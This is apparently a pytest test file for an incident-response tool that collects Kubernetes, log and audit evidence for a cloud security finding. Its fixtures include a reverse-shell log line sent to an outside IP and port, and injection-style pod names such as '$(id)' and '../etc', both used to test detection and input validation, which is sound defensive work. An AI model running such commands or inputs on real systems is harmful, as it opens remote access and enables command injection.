from __future__ import annotations

import gc
import time
import weakref
from dataclasses import replace
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from responder.errors import Unanswered, Why
from responder.evidence import AuditEntry, Evidence, Found, LogEntry, Missing, Node
from responder.finding import Finding
from responder.gather import gather
from responder.ports import LogPages
from responder.settings import Settings
from tests.doubles import Calls, Failing, FakeKubernetes, FakeLogs, FakeScc, Slow, finding_in, world

SAMPLES = Path(__file__).parent / "samples"


@pytest.fixture
def finding() -> Finding:
    return finding_in((SAMPLES / "CONSTRUCTED_ctd_v2_notification.json").read_bytes())


def answered(evidence: Evidence) -> set[str]:
    return {name for name in Evidence.model_fields if isinstance(getattr(evidence, name), Found)}


def test_every_question_of_the_runbook_is_asked_once(finding: Finding) -> None:
    outside, calls = world(finding)
    evidence = gather(outside, finding, finding.targets()[0]).evidence
    assert answered(evidence) == set(Evidence.model_fields) - {"told", "deletion"}
    asked = [name for name in calls.names if not name.startswith("connect")]
    assert sorted(asked) == sorted(set(asked))


def test_the_owner_chain_is_climbed_to_the_top(finding: Finding) -> None:
    outside, _ = world(finding)
    chain = gather(outside, finding, finding.targets()[0]).evidence.owners
    assert isinstance(chain, Found)
    assert [link.kind for link in chain.value.links] == ["ReplicaSet", "Deployment"]
    assert chain.value.complete


def test_nothing_else_is_asked_where_scc_does_not_have_the_finding(finding: Finding) -> None:
    outside, calls = world(finding)
    outside = replace(outside, scc=FakeScc(calls, ()))
    evidence = gather(outside, finding, finding.targets()[0]).evidence
    assert calls.names == ["scc"]
    assert isinstance(evidence.scc, Missing)
    assert evidence.scc.why == "not_found"
    assert {getattr(evidence, name).why for name in ("cluster", "pod", "pod_log", "node")} == {"not_asked"}


def test_nothing_else_is_asked_where_scc_has_another_pod_under_the_name(finding: Finding) -> None:
    pod = replace(finding.pods[0], name="payroll-0")
    outside, calls = world(replace(finding, pods=(pod,)))
    evidence = gather(outside, finding, finding.targets()[0]).evidence
    assert calls.names == ["scc"]
    assert isinstance(evidence.scc, Missing)
    assert evidence.scc.why == "unverified"


@pytest.mark.parametrize("why", ["timeout", "unavailable", "quota", "denied"])
def test_no_cluster_is_asked_while_scc_is_silent(finding: Finding, why: Why) -> None:
    outside, calls = world(finding, scc=Failing(Unanswered(why, "SCC is silent")))
    evidence = gather(outside, finding, finding.targets()[0]).evidence
    assert not [name for name in calls.names if name.startswith(("connect", "pod ", "namespace", "workload"))]
    for name in ("pod", "namespace", "pod_events", "owners"):
        assert getattr(evidence, name).why == "unverified", name
        assert getattr(evidence, name).passing
    assert {"cluster", "pod_log", "audit_log", "node", "node_log"} <= answered(evidence)


def test_the_node_is_asked_of_compute_where_the_cluster_does_not_tell(finding: Finding) -> None:
    outside, calls = world(finding, connect=Failing(Unanswered("unavailable", "no way in")))
    evidence = gather(outside, finding, finding.targets()[0]).evidence
    assert isinstance(evidence.node, Found)
    assert isinstance(evidence.node.value, Node)
    assert evidence.node.value.known_by == "compute"
    assert "since the cluster: no way in" in evidence.node.source
    assert isinstance(evidence.node_log, Found)
    assert 'instance_id="78"' in evidence.node_log.value.filter
    assert "instance acme-shop-prod/europe-west1-b/gke-shop-prod-default-pool-7d6bb7c7-0rru" in calls.names


@pytest.mark.parametrize(("compute", "why"), [("quota", "quota"), ("not_found", "not_found"), ("denied", "not_found")])
def test_a_node_that_compute_may_still_tell_of_is_asked_for_again(finding: Finding, compute: Why, why: Why) -> None:
    class NoNode(FakeKubernetes):
        def node(self, name: str, *, event_time: datetime) -> Node:
            raise Unanswered("not_found", f"no node {name} since {event_time}")

    refused = Failing(Unanswered(compute, "no", mend="grant it" if compute == "denied" else ""))
    outside, _ = world(finding, connect=NoNode(Calls(), finding), instances=refused)
    node = gather(outside, finding, finding.targets()[0]).evidence.node
    assert isinstance(node, Missing)
    assert node.why == why
    assert node.passing == (compute == "quota")
    assert node.mend == ("grant it" if compute == "denied" else "")


@pytest.mark.parametrize(("why", "told"), [("not_found", "no pod to prove"), ("denied", "could not be read")])
def test_a_pod_that_could_not_be_read_is_not_said_to_be_none(finding: Finding, why: Why, told: str) -> None:
    outside, _ = world(finding, connect=Failing(Unanswered(why, "no")))
    proof = gather(outside, finding, finding.targets()[0]).evidence.proof
    assert isinstance(proof, Missing)
    assert told in proof.detail


@pytest.mark.parametrize("port", ["clusters", "connect", "logs", "projects", "instances"])
def test_a_source_that_fails_costs_its_own_answers_only(finding: Finding, port: str) -> None:
    costs = {
        "clusters": {"cluster", "pod", "proof", "owners", "namespace", "pod_events"},
        "connect": {"pod", "proof", "owners", "namespace", "pod_events"},
        "logs": {"pod_log", "audit_log", "node_log"},
        "projects": {"project", "essential_contacts", "project_owners"},
        "instances": set(),
    }
    outside, _ = world(finding, **{port: Failing(Unanswered("denied", "no", mend="grant it"))})
    evidence = gather(outside, finding, finding.targets()[0]).evidence
    assert answered(evidence) == set(Evidence.model_fields) - {"told", "deletion"} - costs[port]


def test_a_bug_in_an_adapter_is_a_broken_answer_that_tells_nothing_of_the_text(finding: Finding) -> None:
    outside, _ = world(finding, logs=Failing(KeyError("password=hunter2")))
    evidence = gather(outside, finding, finding.targets()[0]).evidence
    assert isinstance(evidence.pod_log, Missing)
    assert evidence.pod_log.why == "broken"
    assert "hunter2" not in evidence.model_dump_json()


def test_the_deadline_ends_the_waiting_and_not_the_answers(finding: Finding) -> None:
    calls = Calls()
    settings = Settings(scc_parent="organizations/1", deadline=timedelta(seconds=0.5))
    outside, _ = world(finding, settings=settings, logs=Slow(FakeLogs(calls), 3.0))
    started = time.monotonic()
    evidence = gather(outside, finding, finding.targets()[0]).evidence
    assert time.monotonic() - started < 2.0
    assert isinstance(evidence.pod, Found)
    assert isinstance(evidence.pod_log, Missing)
    assert evidence.pod_log.why == "timeout"
    assert evidence.pod_log.passing


def test_answers_that_are_known_are_not_asked_again(finding: Finding) -> None:
    outside, _ = world(finding, logs=Failing(Unanswered("quota", "60 reads a minute")))
    first = gather(outside, finding, finding.targets()[0])
    whole, calls = world(finding)
    second = gather(whole, finding, finding.targets()[0], known=first.evidence, ask="missing")
    assert {"pod_log", "audit_log", "node_log"} <= answered(second.evidence)
    assert second.evidence.pod == first.evidence.pod
    assert "pod" not in calls.names
    assert "pod_log" in calls.names


def test_a_finding_that_joins_asks_scc_alone(finding: Finding) -> None:
    outside, _ = world(finding)
    first = gather(outside, finding, finding.targets()[0])
    again, calls = world(finding)
    second = gather(again, finding, finding.targets()[0], known=first.evidence, ask="scc")
    assert calls.names == ["scc"]
    assert second.evidence.pod == first.evidence.pod
    assert second.evidence.cluster == first.evidence.cluster


def test_what_was_known_once_is_not_lost_to_a_gap_now(finding: Finding) -> None:
    outside, _ = world(finding, logs=Failing(Unanswered("quota", "60 reads a minute")))
    first = gather(outside, finding, finding.targets()[0])
    broken, _ = world(finding, clusters=Failing(Unanswered("unavailable", "down")))
    second = gather(broken, finding, finding.targets()[0], known=first.evidence, ask="missing")
    assert isinstance(second.evidence.cluster, Found)


@pytest.mark.parametrize("name", ["", "Web", "a b", "web-1'", "$(id)", "../etc", "web\n1", "\x1b[31m", "w" * 300])
def test_a_pod_name_that_kubernetes_would_not_give_is_never_asked_for(finding: Finding, name: str) -> None:
    pod = replace(finding.pods[0], name=name)
    hostile = replace(finding, pods=(pod,))
    outside, calls = world(hostile)
    target = replace(finding.targets()[0], pod=name)
    evidence = gather(outside, hostile, target).evidence
    assert not {"pod", "pod_log", "audit_log", "pod_events"} & set(calls.names)
    assert isinstance(evidence.pod, Missing)
    assert evidence.pod.why == ("invalid" if name else "not_asked")


def test_a_pod_that_is_gone_is_traced_by_its_template_hash_and_its_end_by_the_audit_log(finding: Finding) -> None:
    class Gone(FakeKubernetes):
        def pod(self, namespace: str, name: str):  # type: ignore[no-untyped-def]  # noqa: ANN202 - it never returns
            self.calls.add("pod")
            raise Unanswered("not_found", f"pods {namespace}/{name}")

        def __call__(self, access):  # type: ignore[no-untyped-def]  # noqa: ANN001, ANN204, ARG002 - as the parent's
            return self

    entry = AuditEntry(
        time=finding.event_time + timedelta(seconds=9), method="io.k8s.core.v1.pods.delete",
        resource_name="core/v1/namespaces/shop/pods/checkout-7d9f8c5b4-x2k9p", principal="dev@acme.example",
        caller_ip="203.0.113.7", user_agent="kubectl", status="",
    )  # fmt: skip
    other = entry.model_copy(update={"resource_name": entry.resource_name + "0", "principal": "other"})
    outside, calls = world(finding)
    pages = LogPages(audit=(entry, other), pages=1, truncated=False)
    outside = replace(outside, connect=Gone(calls, finding), logs=FakeLogs(calls, pages))
    evidence = gather(outside, finding, finding.targets()[0]).evidence
    assert isinstance(evidence.owners, Found)
    assert [link.name for link in evidence.owners.value.links] == ["checkout-7d9f8c5b4", "checkout"]
    assert "replica_sets 7d9f8c5b4" in calls.names
    assert isinstance(evidence.deletion, Found)
    assert evidence.deletion.value.principal == "dev@acme.example"
    assert isinstance(evidence.audit_log, Found)
    assert len(evidence.audit_log.value.entries) == 1


def test_a_project_known_by_number_only_is_looked_up_before_the_logs(finding: Finding) -> None:
    bare = replace(finding, project_id="")
    outside, calls = world(bare)
    evidence = gather(outside, bare, bare.targets()[0]).evidence
    assert "project 421458901689" in calls.names
    assert calls.names.index("project 421458901689") < calls.names.index("pod_log")
    assert isinstance(evidence.pod_log, Found)
    assert 'project_id="acme-shop-prod"' in evidence.pod_log.value.filter


def test_what_was_gathered_is_let_go_of_at_once_and_not_when_the_collector_comes_by(finding: Finding) -> None:
    outside, _ = world(finding)
    gc.collect()
    gc.disable()
    try:
        gathered = gather(outside, finding, finding.targets()[0])
        held = weakref.ref(gathered.evidence.owners)
        del gathered
        until = time.monotonic() + 5
        while held() is not None and time.monotonic() < until:
            time.sleep(0.01)  # a worker may still be on its last line
        assert held() is None
    finally:
        gc.enable()


def test_a_line_that_tells_something_is_kept_though_a_hundred_others_are_nearer(finding: Finding) -> None:
    told = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
    lines = [_a_line(finding, seconds, "GET /healthz 200") for seconds in range(-60, 61)]
    pages = LogPages(entries=(*lines, _a_line(finding, 300, told)), pages=1, truncated=False)
    outside, calls = world(finding)
    evidence = gather(replace(outside, logs=FakeLogs(calls, pages)), finding, finding.targets()[0]).evidence
    assert isinstance(evidence.pod_log, Found)
    log = evidence.pod_log.value
    assert (len(log.entries), log.entries[-1].text, log.truncated) == (100, told, True)


def test_a_log_is_read_around_the_event(finding: Finding) -> None:
    outside, calls = world(finding)
    logs = FakeLogs(calls)
    gather(replace(outside, logs=logs), finding, finding.targets()[0])
    assert {caps.around for caps in logs.caps} == {finding.event_time}


def _a_line(finding: Finding, seconds: float, text: str) -> LogEntry:
    return LogEntry(
        time=finding.event_time + timedelta(seconds=seconds),
        severity="INFO",
        log_name="stdout",
        insert_id=f"{seconds}",
        container="c",
        text=text,
    )


def test_of_many_audit_entries_sessions_and_deletes_are_kept_and_then_the_nearest(finding: Finding) -> None:
    ref = finding.pods[0]
    resource = f"core/v1/namespaces/{ref.namespace}/pods/{ref.name}"
    ours = [
        AuditEntry(
            time=finding.event_time + timedelta(seconds=seconds),
            method=f"io.k8s.core.v1.pods.{verb}",
            resource_name=resource,
            principal="x",
            caller_ip="",
            user_agent="",
            status="OK",
            session="exec" if verb == "exec.create" else None,
            command=(),
        )
        for seconds, verb in [*((n, "patch") for n in range(-200, -20)), (900, "exec.create"), (1800, "delete")]
    ]
    outside, calls = world(finding)
    logs = FakeLogs(calls, LogPages(audit=tuple(ours), pages=1, truncated=False))
    evidence = gather(replace(outside, logs=logs), finding, finding.targets()[0]).evidence
    assert isinstance(evidence.audit_log, Found)
    log = evidence.audit_log.value
    assert [entry.method.rpartition("pods.")[2] for entry in log.entries[-2:]] == ["exec.create", "delete"]
    nearest = (finding.event_time - timedelta(seconds=118), finding.event_time - timedelta(seconds=21))
    assert (len(log.entries), log.entries[0].time, log.entries[-3].time) == (100, *nearest)
    assert log.truncated
